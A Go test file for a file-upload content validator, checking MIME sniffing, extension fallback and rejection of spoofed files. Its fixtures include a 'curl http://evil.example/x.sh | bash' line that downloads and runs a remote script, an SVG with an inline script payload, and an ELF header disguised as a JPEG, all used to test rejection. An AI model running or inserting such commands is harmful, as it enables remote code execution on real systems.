package content

import (
	"errors"
	"testing"
)

var pngHeader = []byte{0x89, 'P', 'N', 'G', '\r', '\n', 0x1a, '\n', 0, 0, 0, 13, 'I', 'H', 'D', 'R'}

func TestClassifyMagicBytes(t *testing.T) {
	cls := Classify(pngHeader, "photo.txt")

	if cls.MIMEType != "image/png" {
		t.Fatalf("expected image/png, got %s", cls.MIMEType)
	}
	if cls.Confidence != ConfidenceHigh {
		t.Fatalf("expected high confidence, got %s", cls.Confidence)
	}
	if cls.Method != MethodMagicBytes {
		t.Fatalf("expected magic-bytes method, got %s", cls.Method)
	}
}

func TestClassifyExtensionFallback(t *testing.T) {
	cls := Classify([]byte("plain old notes"), "notes.txt")

	if cls.MIMEType != "text/plain" {
		t.Fatalf("expected text/plain, got %s", cls.MIMEType)
	}
	if cls.Confidence != ConfidenceMedium {
		t.Fatalf("expected medium confidence, got %s", cls.Confidence)
	}
	if cls.Method != MethodExtension {
		t.Fatalf("expected extension method, got %s", cls.Method)
	}
}

func TestClassifyEmptyBufferFallsBack(t *testing.T) {
	cls := Classify(nil, "mystery")

	if cls.MIMEType != "application/octet-stream" {
		t.Fatalf("expected octet-stream, got %s", cls.MIMEType)
	}
	if cls.Confidence != ConfidenceLow {
		t.Fatalf("expected low confidence, got %s", cls.Confidence)
	}
	if cls.Method != MethodFallback {
		t.Fatalf("expected fallback method, got %s", cls.Method)
	}
}

func TestValidateRejectsSpoofedPNG(t *testing.T) {
	err := Validate(pngHeader, "text/plain", "innocent.txt")
	if !errors.Is(err, ErrContentRejected) {
		t.Fatalf("expected ErrContentRejected, got %v", err)
	}
}

func TestValidateAcceptsHonestPNG(t *testing.T) {
	if err := Validate(pngHeader, "image/png", "photo.png"); err != nil {
		t.Fatalf("expected nil, got %v", err)
	}
}

func TestValidateRejectsExtensionMismatch(t *testing.T) {
	// Inconclusive sniff: declared type must then agree with the extension.
	err := Validate([]byte("just some words"), "image/png", "notes.txt")
	if !errors.Is(err, ErrContentRejected) {
		t.Fatalf("expected ErrContentRejected, got %v", err)
	}
}

func TestValidateRejectsScriptInSVG(t *testing.T) {
	svg := []byte(`<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>`)
	err := Validate(svg, "image/svg+xml", "logo.svg")
	if !errors.Is(err, ErrContentRejected) {
		t.Fatalf("expected ErrContentRejected, got %v", err)
	}
}

func TestValidateRejectsShellInjectionInText(t *testing.T) {
	payload := []byte("harmless line\ncurl http://evil.example/x.sh | bash\n")
	err := Validate(payload, "text/plain", "readme.txt")
	if !errors.Is(err, ErrContentRejected) {
		t.Fatalf("expected ErrContentRejected, got %v", err)
	}
}

func TestValidateRejectsExecutableHeaderInImage(t *testing.T) {
	elf := append([]byte{0x7f, 'E', 'L', 'F'}, make([]byte, 64)...)
	err := Validate(elf, "image/jpeg", "cat.jpg")
	if !errors.Is(err, ErrContentRejected) {
		t.Fatalf("expected ErrContentRejected, got %v", err)
	}
}

func TestValidateAcceptsPlainText(t *testing.T) {
	if err := Validate([]byte("quarterly numbers look fine"), "text/plain", "q1.txt"); err != nil {
		t.Fatalf("expected nil, got %v", err)
	}
}

func TestValidateEmptyDeclaredTypeSkipsCrossCheck(t *testing.T) {
	if err := Validate(pngHeader, "", "photo.png"); err != nil {
		t.Fatalf("expected nil, got %v", err)
	}
}
